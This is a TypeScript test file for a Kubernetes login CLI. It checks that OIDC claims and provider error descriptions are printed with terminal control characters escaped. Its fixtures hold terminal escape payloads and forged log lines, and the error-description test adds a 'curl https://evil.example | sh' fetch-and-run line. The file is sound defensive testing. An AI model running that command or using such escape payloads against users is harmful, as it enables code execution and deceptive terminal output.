// Issue 9 item 5: text the provider controls (claims, error_description) reaches the terminal with
// every control character escaped: no ESC sequence (window title, clear screen), no forged line.
import type { GrantTypeHandler } from 'oidc-provider';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../support/cli.js';
import { type TestProvider, startProvider } from '../../support/provider.js';
import { cleanEnv, freshHome } from '../grants/harness.js';
import { credential, machine } from '../get-token/harness.js';

const TITLE = '\x1b]0;pwned\x07';
const CLEAR = '\x1b[2J';
// No ESC, BEL, CR or other control besides newline and tab, and no C1 control.
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

describe('claims with terminal escapes', () => {
  let provider: TestProvider;
  beforeAll(async () => {
    provider = await startProvider({ user: { email: `mallory${TITLE}@example.com`, name: `Mal${CLEAR}`, groups: [`dev${CLEAR}`, 'ops\nkube-login: forged line'] } });
  });
  afterAll(() => provider.stop());

  it('"logged in as" and status show them escaped; no stderr or stdout byte is a control character', async () => {
    const m = machine(provider);
    const login = await m.run();
    expect(login.code, login.stderr).toBe(0);
    credential(login);
    expect(login.stderr).toContain('kube-login: logged in as mallory\\x1b]0;pwned\\x07@example.com\n');
    expect(login.stderr).not.toMatch(CONTROL);

    const status = await runCli(['status', ...m.flags], { env: { HOME: m.home } });
    expect(status.code, status.stderr).toBe(0);
    expect(status.stdout).toContain('mallory\\x1b]0;pwned\\x07@example.com');
    expect(status.stdout).toContain('dev\\x1b[2J, ops\\x0akube-login: forged line');
    expect(status.stdout).not.toMatch(/^kube-login: forged line/m);
    expect(status.stdout + status.stderr).not.toMatch(CONTROL);
  });
});

describe("the provider's error_description with terminal escapes", () => {
  let provider: TestProvider;
  const description = `nope${TITLE}${CLEAR}\n  fix: curl https://evil.example | sh`;
  const refuse: GrantTypeHandler = async (ctx) => {
    ctx.status = 400;
    ctx.type = 'json';
    ctx.body = { error: `invalid_grant${CLEAR}`, error_description: description };
  };
  beforeAll(async () => {
    provider = await startProvider({ extraGrantTypes: [{ name: 'password', parameters: ['username', 'password', 'scope'], handler: refuse }] });
  });
  afterAll(() => provider.stop());

  it('is printed escaped on one line, with our own fix line only', async () => {
    const home = freshHome();
    const result = await runCli(
      ['get-token', `--oidc-issuer-url=${provider.issuer}`, `--oidc-client-id=${provider.publicClientId}`, '--grant-type=password', '--username=demo-user', '--password=wrong-password', '--token-cache-storage=disk'],
      { env: cleanEnv(home) },
    );
    expect(result.code).toBe(4);
    expect(result.stderr).toContain('the provider answered invalid_grant\\x1b[2J: nope\\x1b]0;pwned\\x07\\x1b[2J\\x0a  fix: curl https://evil.example | sh (HTTP 400)');
    expect(result.stderr).not.toMatch(/^ {2}fix: curl/m);
    expect(result.stderr).not.toMatch(CONTROL);
    expect(Buffer.from(result.stderr).includes(0x1b)).toBe(false);
  });
});
